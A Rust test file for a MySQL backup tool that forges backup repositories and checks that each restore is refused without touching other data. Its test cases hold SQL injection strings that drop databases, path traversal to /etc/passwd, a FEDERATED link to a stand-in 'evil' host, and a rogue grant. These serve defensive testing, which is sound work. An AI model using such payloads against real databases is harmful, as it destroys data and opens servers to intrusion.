//! Backups forged by whoever may write a repository, with every hash right: each ends in an error that names the record,
//! and nothing on the target but what was restored is touched.

use crate::support::data::{self, one};
use crate::support::forge::{Contents, Forged, forge};
use crate::support::run::{self, backup_options, restore_options, try_restore, try_verify, verify_options};
use crate::support::server::{connect, options, own, source};
use myriad::command::options::{BackupOptions, Definers, ExistingUsers, RestoreOptions, VerifyOptions};
use myriad::sandbox::Sandbox;
use myriad::{Exit, Result};
use serde_json::{Value, json};
use std::collections::BTreeMap;

/// A schema with every kind of record.
async fn make(schema: &str, rows: u64) {
    let statements = [
        format!("CREATE DATABASE {schema}"),
        format!("USE {schema}"),
        "CREATE TABLE t (id INT PRIMARY KEY, name VARCHAR(20), e ENUM('a','b'), doc JSON, KEY by_name (name))".into(),
        format!(
            "INSERT INTO t WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {rows}) \
             SELECT i, CONCAT('name ', i), 1 + i % 2, JSON_OBJECT('i', i) FROM n"
        ),
        "CREATE TABLE typed (id INT PRIMARY KEY, e ENUM('a','b'), doc JSON)".into(),
        "INSERT INTO typed VALUES (1, 'a', JSON_OBJECT('d', CAST('1.10' AS DECIMAL(5,2))))".into(),
        "CREATE VIEW v AS SELECT id FROM t".into(),
        "CREATE FUNCTION f() RETURNS INT DETERMINISTIC RETURN 1".into(),
        "CREATE PROCEDURE p() SELECT 1".into(),
        "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.name = 'x'".into(),
        "CREATE EVENT ev ON SCHEDULE EVERY 1 DAY DO SELECT 1".into(),
    ];
    data::run(source(), &statements).await;
}

async fn backup_of(schema: &str) -> run::Repo {
    let repo = run::Repo::new();
    run::backup(&backup_options(source(), &repo, schema)).await;
    repo
}

fn options_for(target: &Sandbox, forged: &Forged) -> RestoreOptions {
    RestoreOptions { repo: forged.place(), ..restore_options(target, &run::Repo::new()) }
}

/// Everything of a server that a refused restore must leave alone.
async fn state(server: &Sandbox) -> BTreeMap<String, String> {
    let mut session = connect(server).await;
    let mut state = BTreeMap::new();
    for sql in [
        "SELECT CONCAT('table ', TABLE_SCHEMA, '.', TABLE_NAME), CREATE_TIME FROM information_schema.tables WHERE TABLE_SCHEMA NOT IN ('performance_schema')",
        "SELECT CONCAT('schema ', SCHEMA_NAME), DEFAULT_COLLATION_NAME FROM information_schema.schemata",
        "SELECT CONCAT('routine ', ROUTINE_SCHEMA, '.', ROUTINE_NAME), LAST_ALTERED FROM information_schema.routines",
        "SELECT CONCAT('user ', User, '@', Host), JSON_ARRAY(Super_priv, account_locked, password_last_changed) FROM mysql.user",
        "SELECT CONCAT('grant ', USER, '@', HOST, ' ', PRIV), '' FROM mysql.global_grants",
        "SELECT CONCAT('variable ', VARIABLE_NAME), VARIABLE_VALUE FROM performance_schema.global_variables WHERE VARIABLE_NAME <> 'gtid_executed'",
        "SELECT 'bystander', SUM(id) FROM bystander.t",
    ] {
        state.extend(session.query(sql).await.unwrap().iter().map(|row| (row.text(0), row.text(1))));
    }
    state
}

async fn target() -> Sandbox {
    let server = own(options());
    data::run(
        &server,
        &[
            "CREATE DATABASE bystander",
            "CREATE TABLE bystander.t (id INT PRIMARY KEY)",
            "INSERT INTO bystander.t VALUES (1), (2)",
        ],
    )
    .await;
    server
}

#[track_caller]
fn refused(result: Result<impl std::fmt::Debug>, name: &str, words: &str) {
    let error = result.err().unwrap_or_else(|| panic!("{name}: it was restored"));
    assert!(matches!(error.exit(), Exit::RepositoryDamaged | Exit::RepositoryForeign), "{name}: {error:?}");
    assert!(error.to_string().contains(words), "{name}: {words:?} is not in: {error}");
}

type Case = (&'static str, fn(&mut Contents), &'static str);

/// What is refused before the target is even asked who it is.
const RECORDS: &[Case] = &[
    ("system schema", |c| c.replace_everywhere("hostile_records", "mysql"), "schema mysql"),
    ("system schema in other letters", |c| c.replace_everywhere("hostile_records", "SYS"), "schema SYS"),
    ("the ledger's schema", |c| c.replace_everywhere("hostile_records", "myriad_restore"), "schema myriad_restore"),
    ("long schema", |c| c.replace_everywhere("hostile_records", &"x".repeat(65)), "65 characters"),
    ("NUL in a name", |c| c.table("t")["name"] = json!("t\0"), "no name that a server makes"),
    ("path in a name", |c| c.table("t")["name"] = json!("#mysql50#../../x"), "no name that a server makes"),
    ("table in no schema of the backup", |c| c.table("t")["schema"] = json!("bystander"), "no schema bystander"),
    (
        "table defined twice",
        |c| {
            let twice = json!({"table": c.table("t").clone()});
            c.schemas.push(twice)
        },
        "twice",
    ),
    (
        "schema's second statement",
        |c| {
            Contents::rewrite(
                c.schema(),
                "CREATE DATABASE `hostile_records`",
                "CREATE DATABASE `hostile_records`; DROP DATABASE bystander; --",
            )
        },
        "schema hostile_records",
    ),
    (
        "schema of another name",
        |c| Contents::rewrite(c.schema(), "`hostile_records`", "`bystander`"),
        "schema hostile_records",
    ),
    ("table of another name", |c| Contents::rewrite(c.table("t"), "TABLE `t`", "TABLE `u`"), "table hostile_records.t"),
    (
        "table of another schema",
        |c| Contents::rewrite(c.table("t"), "TABLE `t`", "TABLE `bystander`.`t`"),
        "table hostile_records.t",
    ),
    ("another kind", |c| c.table("t")["create"] = json!("CREATE VIEW `t` AS SELECT 1"), "table hostile_records.t"),
    (
        "rows from elsewhere",
        |c| Contents::rewrite(c.table("t"), ") ENGINE=InnoDB", ") ENGINE=InnoDB SELECT * FROM mysql.user"),
        "SELECT",
    ),
    (
        "second statement",
        |c| {
            Contents::rewrite(
                c.table("t"),
                ") ENGINE=InnoDB",
                "); DROP DATABASE bystander; CREATE TABLE x (a int) ENGINE=InnoDB",
            )
        },
        "more than one",
    ),
    (
        "comment that some servers run",
        |c| {
            Contents::rewrite(
                c.table("t"),
                ") ENGINE=InnoDB",
                ") ENGINE=InnoDB /*!99999 ' */; DROP DATABASE bystander -- '",
            )
        },
        "end of a comment",
    ),
    (
        "another engine",
        |c| Contents::rewrite(c.table("t"), "ENGINE=InnoDB", "ENGINE=FEDERATED CONNECTION='mysql://evil/x'"),
        "another engine",
    ),
    (
        "tables of others",
        |c| Contents::rewrite(c.table("t"), "ENGINE=InnoDB", "ENGINE=InnoDB UNION=(`bystander`.`t`)"),
        "other schemas",
    ),
    (
        "a column more",
        |c| Contents::rewrite(c.table("t"), "`name` varchar(20)", "`evil` int, `name` varchar(20)"),
        "column",
    ),
    ("a column's type", |c| Contents::rewrite(c.table("t"), "`name` varchar(20)", "`name` json"), "another type"),
    ("a key of no column", |c| c.table("t")["range_key"]["columns"][0]["column"] = json!(99), "key names columns"),
    ("view stated as procedure", |c| c.object("v")["kind"] = json!("procedure"), "procedure hostile_records.v"),
    (
        "function from a library",
        |c| c.object("f")["create"] = json!("CREATE FUNCTION `f` RETURNS STRING SONAME 'x.so'"),
        "function hostile_records.f",
    ),
    ("procedure of another name", |c| Contents::rewrite(c.object("p"), "`p`", "`q`"), "another name"),
    ("procedure of another schema", |c| Contents::rewrite(c.object("p"), "`p`", "`bystander`.`p`"), "another name"),
    (
        "trigger of another table",
        |c| Contents::rewrite(c.object("tr"), "ON `t`", "ON `bystander`.`t`"),
        "another table",
    ),
    ("definer unlike the record's", |c| c.object("p")["definer"] = json!("nobody@localhost"), "another definer"),
    (
        "statement in a character set",
        |c| c.object("p")["charset_client"] = json!("utf8mb4, GLOBAL read_only=1"),
        "character set",
    ),
    (
        "statement in a collation",
        |c| c.object("p")["database_collation"] = json!("x; DROP DATABASE bystander"),
        "collation",
    ),
    (
        "statement in a sql_mode",
        |c| c.object("p")["sql_mode"] = json!("', GLOBAL read_only=1, SESSION sql_mode='"),
        "sql_mode",
    ),
    ("more rows than bytes", |c| c.chunk("t")["rows"] = json!(u64::MAX), "rows in"),
    ("more bytes than can be", |c| c.chunk("t")["bytes"] = json!(u64::MAX), "bytes of rows"),
    ("frame larger than its content", |c| c.chunk("t")["place"]["length"] = json!(1u64 << 40), "a frame of"),
    ("place beyond all", |c| c.chunk("t")["place"]["offset"] = json!(u64::MAX), "beyond the end"),
    ("typed list beyond all", |c| c.chunk("typed")["typed"]["length"] = json!(u64::MAX - 20), "beyond the end"),
    ("typed list too large", |c| c.chunk("typed")["typed"]["bytes"] = json!(u64::MAX / 7), "typed values"),
    ("rows nowhere", |c| drop(c.chunk("t").as_object_mut().unwrap().remove("place")), "without a place"),
    ("chunk numbers", |c| c.chunk("t")["n"] = json!(7), "numbered"),
    ("partition of no table", |c| c.chunk("t")["partition"] = json!("p0"), "partition"),
    ("statement in a bound", |c| c.chunk("t")["range"] = json!({"hi": ["1) OR SLEEP(9"]}), "range"),
    (
        "path for an object",
        |c| c.chunk("t")["place"]["object"] = json!("../../../../etc/passwd"),
        "not as it should be",
    ),
    (
        "statement in the GTID set",
        |c| c.manifest["position"]["gtid_executed"] = json!("'; DROP DATABASE bystander"),
        "GTID set",
    ),
    ("endless nesting", |c| c.table("t")["create"] = nested(200), "recursion limit"),
    ("a feature from the future", |c| c.manifest["requires"] = json!(["x"]), "requires"),
    ("part named twice", |c| forge_parts(c, |part| vec![part.clone(), part]), "twice"),
    (
        "part of any size",
        |c| {
            forge_parts(c, |mut part| {
                part["bytes"] = json!(u64::MAX);
                vec![part]
            })
        },
        "a part of",
    ),
    (
        "part beyond all",
        |c| {
            forge_parts(c, |mut part| {
                part["place"]["offset"] = json!(u64::MAX);
                vec![part]
            })
        },
        "beyond the end",
    ),
    (
        "part of a path",
        |c| {
            forge_parts(c, |mut part| {
                part["place"]["object"] = json!("../x");
                vec![part]
            })
        },
        "manifest.json",
    ),
];

fn nested(depth: usize) -> Value {
    (0..depth).fold(json!(1), |inner, _| json!([inner]))
}

/// Replaces the first part of the chunk lists in the manifest itself.
fn forge_parts(contents: &mut Contents, change: impl FnOnce(Value) -> Vec<Value>) {
    let mut parts = change(contents.manifest["lists"][0].clone());
    parts[0]["forged"] = json!(true);
    contents.manifest["lists"] = json!(parts);
}

#[tokio::test]
async fn a_forged_record_is_refused_before_anything_is_done() {
    make("hostile_records", 50).await;
    let (repo, target) = (backup_of("hostile_records").await, target().await);
    let before = state(&target).await;
    for (name, change, words) in RECORDS {
        let forged = forge(&repo.place(), *change);
        refused(try_restore(&options_for(&target, &forged)).await, name, words);
    }
    assert_eq!(state(&target).await, before);
    // The forger's tools alone change nothing.
    let forged = forge(&repo.place(), |_| {});
    run::restore(&options_for(&target, &forged)).await;
    // A document that nests without end, and one that is larger than any.
    let forged = forge(&repo.place(), |_| {});
    let path = crate::support::forge::manifest_path(std::path::Path::new(&forged.place()));
    crate::support::forge::seal(&path, &"[".repeat(1 << 20));
    refused(try_restore(&options_for(&target, &forged)).await, "nesting", "manifest.json");
    let file = std::fs::File::create(&path).unwrap();
    file.set_len(1 << 40).unwrap();
    refused(try_restore(&options_for(&target, &forged)).await, "a manifest of 1 TiB", "manifest.json");
}

/// What is found in a chunk as it is loaded: its transaction is undone, nothing else is touched.
const CHUNKS: &[Case] = &[
    (
        "bomb",
        |c| {
            c.put_chunk("t", &vec![b'\n'; 64 << 20], b"");
            c.chunk("t")["bytes"] = json!(65536);
            c.chunk("t")["rows"] = json!(50)
        },
        "instead of 65536",
    ),
    (
        "rows short of the record",
        |c| {
            c.put_chunk("t", b"1\tx\t1\t{}\n", b"");
            c.chunk("t")["rows"] = json!(2)
        },
        "1 rows instead of 2",
    ),
    ("no end of the last row", |c| c.put_chunk("t", b"1\tx\t1\t{}\n2\tx\t1\t{}", b""), "rows instead of"),
    (
        "statement for a DECIMAL",
        |c| {
            c.put_chunk(
                "typed",
                b"1\t1\t{\"d\": 1.10}\n",
                b"0\t2\t$.\"d\"\tDECIMAL\t1)); DROP DATABASE bystander; --\n",
            )
        },
        "content",
    ),
    (
        "statement for an ENUM",
        |c| {
            c.put_chunk(
                "typed",
                b"1\t1)); DROP DATABASE bystander; --\t{\"d\": 1.10}\n",
                b"0\t2\t$.\"d\"\tDECIMAL\t1.10\n",
            )
        },
        "ENUM",
    ),
    (
        "path of no value",
        |c| c.put_chunk("typed", b"1\t1\t{\"d\": 1.10}\n", b"0\t2\t$.\"x\"\tDECIMAL\t1.10\n"),
        "document has not",
    ),
    (
        "other text than the document's",
        |c| c.put_chunk("typed", b"1\t1\t{\"d\": 1.10}\n", b"0\t2\t$.\"d\"\tDECIMAL\t9\n"),
        "document has not",
    ),
    (
        "no JSON column",
        |c| c.put_chunk("typed", b"1\t1\t{\"d\": 1.10}\n", b"0\t1\t$.\"d\"\tDECIMAL\t1.10\n"),
        "no JSON",
    ),
    (
        "column beyond the table",
        |c| c.put_chunk("typed", b"1\t1\t{\"d\": 1.10}\n", b"0\t4000000000\t$.\"d\"\tDECIMAL\t1.10\n"),
        "no JSON",
    ),
    (
        "row beyond the chunk",
        |c| c.put_chunk("typed", b"1\t1\t{\"d\": 1.10}\n", b"7\t2\t$.\"d\"\tDECIMAL\t1.10\n"),
        "row that it has not",
    ),
    (
        "type that is none",
        |c| c.put_chunk("typed", b"1\t1\t{\"d\": 1.10}\n", b"0\t2\t$.\"d\"\tOPAQUE:3\t1.10\n"),
        "content",
    ),
];

#[tokio::test]
async fn a_forged_chunk_is_refused_and_others_are_left_alone() {
    make("hostile_chunks", 50).await;
    let (repo, target) = (backup_of("hostile_chunks").await, target().await);
    let before = state(&target).await;
    for (name, change, words) in CHUNKS {
        let forged = forge(&repo.place(), *change);
        refused(try_restore(&options_for(&target, &forged)).await, name, words);
        data::drop_restored(&target, "hostile_chunks").await;
        assert_eq!(state(&target).await, before, "{name}");
    }
}

#[tokio::test]
async fn texts_of_the_repository_are_never_run_beside_what_they_state() {
    make("hostile_texts", 50).await;
    let (repo, target) = (backup_of("hostile_texts").await, target().await);
    // LOAD DATA is built from the typed columns; a body that ends early is for the server to see.
    let forged = forge(&repo.place(), |contents| {
        contents.table("t")["load"] = json!("DROP DATABASE bystander");
        for (name, end) in
            [("p", "SELECT 1"), ("f", "RETURN 1"), ("tr", "SET NEW.name = 'x'"), ("ev", "SELECT 1"), ("v", "from `t`")]
        {
            Contents::rewrite(contents.object(name), end, &format!("{end}; DROP DATABASE bystander"));
        }
    });
    let report = try_restore(&options_for(&target, &forged)).await.unwrap();
    assert_eq!(one(&target, "SELECT SUM(id) FROM bystander.t").await, "3");
    let text = report.text();
    for object in [
        "view hostile_texts.v",
        "function hostile_texts.f",
        "procedure hostile_texts.p",
        "trigger hostile_texts.tr",
        "event hostile_texts.ev",
    ] {
        assert!(text.contains(&format!("{object}: ")), "{object} was made:\n{text}");
    }
    assert_eq!(one(&target, "SELECT COUNT(*) FROM hostile_texts.t").await, "50");
    // A condition would be asked of the server again: its table is named as not compared, the others are.
    for condition in ["1) UNION (SELECT 1", "SLEEP(100)", "hostile_texts.f\u{b}() = 1", "1 INTO OUTFILE '/tmp/x'"] {
        let forged = forge(&repo.place(), |contents| {
            contents.manifest["options"]["conditions"] = json!({"hostile_texts.t": condition});
        });
        let options = VerifyOptions { repo: forged.place(), ..verify_options(&target, &repo) };
        let report = run::verify(&options).await;
        let proof = report.proof.as_ref().unwrap();
        assert_eq!((report.exit(), proof.tables, proof.differences.len()), (Exit::ProofFailed, 1, 0), "{condition}");
        assert_eq!(proof.not_compared[0].table, "hostile_texts.t", "{condition}");
        assert!(report.text().contains("not compared: hostile_texts.t: its "), "{}", report.text());
    }
    // Whoever takes a backup under such a condition of his own is told at once; one that can be asked is.
    let under = async |condition: &str| {
        let repo = run::Repo::new();
        let conditions = vec![("hostile_texts.t".to_owned(), condition.to_owned())];
        let report =
            run::backup(&BackupOptions { conditions, ..backup_options(source(), &repo, "hostile_texts") }).await;
        let notes = report.backup().unwrap().notes.join("\n");
        (notes, run::verify(&verify_options(source(), &repo)).await.exit())
    };
    let (notes, exit) = under("hostile_texts.f() = 1").await;
    assert!(notes.contains("will not compare table hostile_texts.t") && notes.contains("calls F"), "{notes}");
    assert_eq!(exit, Exit::ProofFailed);
    let (notes, exit) =
        under("name LIKE '%@ /*%' OR SUBSTRING_INDEX(name, ' ', -1) < 20 AND EXTRACT(YEAR FROM NOW()) > 1").await;
    assert!(!notes.contains("will not compare"), "{notes}");
    assert_eq!(exit, Exit::Success);
}

#[tokio::test]
async fn all_that_is_refused_is_named_and_not_called_damaged() {
    make("hostile_named", 5).await;
    let repo = backup_of("hostile_named").await;
    let forged = forge(&repo.place(), |contents| {
        Contents::rewrite(contents.object("p"), "`p`", "`q`");
        Contents::rewrite(contents.object("f"), "`f`", "`g`");
        Contents::rewrite(contents.table("t"), "TABLE `t`", "TABLE `u`");
        contents.manifest["program"] = json!("myriad \u{1b}]0;x\u{7}");
    });
    let target = target().await;
    let error = try_restore(&options_for(&target, &forged)).await.unwrap_err();
    let text = error.to_string();
    for name in ["procedure hostile_named.p: ", "function hostile_named.f: ", "table hostile_named.t: "] {
        assert!(text.contains(name), "{text}");
    }
    assert!(!text.contains("damaged") && error.hints()[0].contains("--no-objects"), "{error:?}");
    let verify = VerifyOptions { repo: forged.place(), against: None, ..verify_options(&target, &repo) };
    let report = run::verify(&verify).await;
    assert_eq!((report.exit(), report.inventory.as_ref().unwrap().refused.len()), (Exit::RepositoryDamaged, 3));
    let text = report.text();
    assert!(
        text.contains("3 definitions that a restore would REFUSE") && text.contains("procedure hostile_named.p"),
        "{text}"
    );
    // What is left is restored.
    let mut options = RestoreOptions { no_objects: true, ..options_for(&target, &forged) };
    options.selection.exclude_tables = vec!["hostile_named.t".into()];
    run::restore(&options).await;
}

/// Nothing of this is what servers usually print, and all of it is legal.
#[tokio::test]
async fn what_a_server_takes_is_not_refused() {
    data::run(
        source(),
        &[
            "CREATE DATABASE hostile_legal",
            "USE hostile_legal",
            "CREATE TABLE conn (a INT PRIMARY KEY) CONNECTION='some;''text'",
            "CREATE TABLE `#mysql50#a` (a INT)",
            "CREATE TABLE k (v VARCHAR(9)) ENGINE=MyISAM",
            "INSERT INTO k VALUES ('x')",
            "SET SESSION sql_mode='ANSI_QUOTES'",
            "CREATE FUNCTION \"f\\b\"() RETURNS INT DETERMINISTIC RETURN 1",
            "CREATE DEFINER=\"DOMAIN\\user\"@\"%\" PROCEDURE \"p\"() SELECT 1",
            "SET SESSION sql_mode='HIGH_NOT_PRECEDENCE'",
            "CREATE EVENT ev ON SCHEDULE EVERY 1 DAY DO SELECT 1",
        ],
    )
    .await;
    let repo = run::Repo::new();
    let report = run::backup(&backup_options(source(), &repo, "hostile_legal")).await;
    let notes = &report.backup().unwrap().notes;
    assert!(!notes.iter().any(|note| note.contains("would refuse")), "{notes:?}");
    let target = target().await;
    let report = run::restore(&restore_options(&target, &repo)).await;
    for sql in [
        "SELECT GROUP_CONCAT(TABLE_NAME ORDER BY TABLE_NAME) FROM information_schema.tables WHERE TABLE_SCHEMA = 'hostile_legal'",
        "SELECT GROUP_CONCAT(ROUTINE_NAME, DEFINER ORDER BY 1) FROM information_schema.routines WHERE ROUTINE_SCHEMA = 'hostile_legal'",
        "SELECT GROUP_CONCAT(EVENT_NAME, ON_COMPLETION) FROM information_schema.events WHERE EVENT_SCHEMA = 'hostile_legal'",
    ] {
        assert_eq!(one(&target, sql).await, one(source(), sql).await, "{sql}\n{}", report.text());
    }
    assert_eq!(run::verify(&verify_options(&target, &repo)).await.exit(), Exit::Success);
    // A table may have been replaced by what runs code: it writes nothing, for the sessions that read are read-only.
    data::run(
        &target,
        &[
            "SET GLOBAL log_bin_trust_function_creators = ON",
            "USE hostile_legal",
            "CREATE FUNCTION evil() RETURNS INT BEGIN INSERT INTO bystander.t VALUES (9); RETURN 1; END",
            "RENAME TABLE k TO hidden",
            "CREATE VIEW k AS SELECT v FROM hidden WHERE evil() = 1",
        ],
    )
    .await;
    let error = try_verify(&verify_options(&target, &repo)).await.unwrap_err();
    assert!(error.to_string().contains("READ ONLY"), "{error}");
    assert_eq!(one(&target, "SELECT SUM(id) FROM bystander.t").await, "3");
}

type AccountCase = (&'static str, fn(&mut Value), &'static str);

#[tokio::test]
async fn an_account_is_itself_alone() {
    make("hostile_users", 5).await;
    data::run(
        source(),
        &[
            "CREATE USER hostile_one@localhost IDENTIFIED BY 'x'",
            "GRANT SELECT ON hostile_users.* TO hostile_one@localhost",
        ],
    )
    .await;
    let repo = run::Repo::new();
    run::backup(&BackupOptions { users: true, ..backup_options(source(), &repo, "hostile_users") }).await;
    let target = target().await;
    let before = state(&target).await;
    let of_one = |contents: &mut Contents, change: fn(&mut Value)| {
        let account = contents.accounts.iter_mut().filter_map(|line| line.get_mut("account"));
        change(account.into_iter().find(|account| account["user"] == "hostile_one").unwrap());
    };
    let cases: [AccountCase; 6] = [
        ("another account", |a| Contents::rewrite(a, "`hostile_one`@", "`root`@"), "CREATE USER of this name"),
        (
            "two accounts",
            |a| Contents::rewrite(a, "@`localhost`", "@`localhost`, `evil`@`%`"),
            "CREATE USER of this name",
        ),
        (
            "two statements",
            |a| Contents::rewrite(a, " REQUIRE", "; DROP DATABASE bystander; -- REQUIRE"),
            "more than one",
        ),
        ("grant to another", |a| a["grants"] = json!(["GRANT ALL ON *.* TO `evil`@`%`"]), "another account's"),
        (
            "grant and more",
            |a| a["grants"] = json!(["GRANT SELECT ON *.* TO `hostile_one`@`localhost`; DROP DATABASE bystander"]),
            "more than one",
        ),
        ("second password", |a| a["second_password"] = json!("00; DROP DATABASE bystander"), "no hash"),
    ];
    for (name, change, words) in cases {
        let forged = forge(&repo.place(), |contents| of_one(contents, change));
        let options =
            RestoreOptions { users: true, existing_users: ExistingUsers::Skip, ..options_for(&target, &forged) };
        refused(try_restore(&options).await, name, words);
    }
    assert_eq!(state(&target).await, before);
    data::run(source(), &["DROP USER hostile_one@localhost"]).await;
}

#[tokio::test]
async fn code_runs_with_no_rights_that_the_restoring_account_lacks() {
    make("hostile_definer", 5).await;
    let (repo, target) = (backup_of("hostile_definer").await, target().await);
    data::run(
        &target,
        &[
            "CREATE USER maker@localhost, boss@localhost, clerk@localhost",
            "GRANT ALL ON hostile_definer.* TO maker@localhost, clerk@localhost",
            "GRANT ALL ON myriad_restore.* TO maker@localhost",
            "GRANT SELECT, PROCESS, REPLICATION SLAVE ON *.* TO maker@localhost",
            "GRANT SET_ANY_DEFINER, ALLOW_NONEXISTENT_DEFINER, SESSION_VARIABLES_ADMIN ON *.* TO maker@localhost",
            "GRANT ALL ON bystander.* TO boss@localhost",
            "SET GLOBAL log_bin_trust_function_creators = ON",
        ],
    )
    .await;
    let by = |definer: &'static str, definers: Definers| {
        let forged = forge(&repo.place(), |contents| {
            for name in ["v", "f", "p", "tr", "ev"] {
                let object = contents.object(name);
                Contents::rewrite(object, "`root`@`localhost`", &format!("`{definer}`@`localhost`"));
                object["definer"] = json!(format!("{definer}@localhost"));
            }
        });
        let mut options = RestoreOptions { definers, ..options_for(&target, &forged) };
        options.target.user = "maker".into();
        (forged, options)
    };
    let (_boss, options) = by("boss", Definers::default());
    let error = try_restore(&options).await.unwrap_err();
    assert_eq!(error.exit(), Exit::RightMissing, "{error:?}");
    assert!(error.to_string().contains("'boss'@'localhost' (has rights that 'maker'@'localhost' lacks: "), "{error}");
    assert!(error.to_string().contains("ON `bystander`.*") && error.to_string().contains("--definer keep"), "{error}");
    assert_eq!(
        one(&target, "SELECT COUNT(*) FROM information_schema.schemata WHERE SCHEMA_NAME = 'hostile_definer'").await,
        "0"
    );
    // One whose rights the restoring account has, and one that was asked for.
    for (definer, definers) in
        [("clerk", Definers::default()), ("boss", Definers { keep: true, ..Definers::default() })]
    {
        let (_forged, options) = by(definer, definers);
        run::restore(&options).await;
        let of = "SELECT DEFINER FROM information_schema.routines WHERE ROUTINE_SCHEMA = 'hostile_definer' LIMIT 1";
        assert_eq!(one(&target, of).await, format!("{definer}@localhost"));
        data::drop_restored(&target, "hostile_definer").await;
    }
}

#[tokio::test]
async fn a_table_that_reaches_elsewhere_is_asked_for() {
    make("hostile_remote", 5).await;
    let (repo, target) = (backup_of("hostile_remote").await, target().await);
    let forged = forge(&repo.place(), |contents| {
        let table = contents.table("t");
        table["engine"] = json!("FEDERATED");
        Contents::rewrite(table, "ENGINE=InnoDB", "ENGINE=FEDERATED CONNECTION='mysql://evil@10.0.0.1/x/t'");
    });
    let error = try_restore(&options_for(&target, &forged)).await.unwrap_err();
    assert_eq!(error.exit(), Exit::TargetUnfit, "{error:?}");
    assert!(
        error.to_string().contains("hostile_remote.t (FEDERATED)") && error.hints()[0].contains("--allow-external")
    );
    let folder = tempfile::tempdir().unwrap();
    let directory = folder.path().display().to_string();
    let forged = forge(&repo.place(), |contents| {
        Contents::rewrite(contents.table("t"), "ENGINE=InnoDB", &format!("ENGINE=InnoDB DATA DIRECTORY='{directory}'"));
    });
    let report = run::restore(&options_for(&target, &forged)).await;
    assert!(
        report.text().contains("directories left out") && report.text().contains("hostile_remote.t"),
        "{}",
        report.text()
    );
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0);
}
